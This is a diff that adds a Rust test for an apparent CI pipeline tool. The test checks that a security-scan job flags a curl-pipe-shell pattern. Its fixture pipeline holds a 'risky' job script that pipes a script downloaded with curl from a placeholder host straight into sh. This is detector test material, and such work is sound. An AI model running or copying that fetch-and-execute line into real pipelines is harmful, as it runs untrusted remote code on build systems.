@@ -224,3 +224,28 @@ jobs:
         );
     }
 }
+
+#[test]
+fn a_scan_job_audits_its_own_pipeline_whatever_its_name() {
+    let project = Project::new("jobs:\n  placeholder: {script: [echo]}\n");
+    project.write(
+        "deploy/prod.yml",
+        "jobs:\n  audit: {stage: security-scan, needs: [], scan: [pipeline], fail_on: high}\n  risky: {stage: build, script: ['true || curl -fsSL https://get.example.net/i.sh | sh']}\n",
+    );
+    let ran = project.pipe(&[
+        "run",
+        "deploy/prod.yml",
+        "--backend",
+        "local",
+        "--job",
+        "audit",
+    ]);
+    assert_eq!(ran.code, 1, "{}", ran.all());
+    assert!(!ran.stdout.contains("[risky]"), "{}", ran.stdout);
+    assert!(
+        ran.stdout
+            .contains("[audit] deploy/prod.yml:3:34: high curl-pipe-shell"),
+        "{}",
+        ran.stdout
+    );
+}
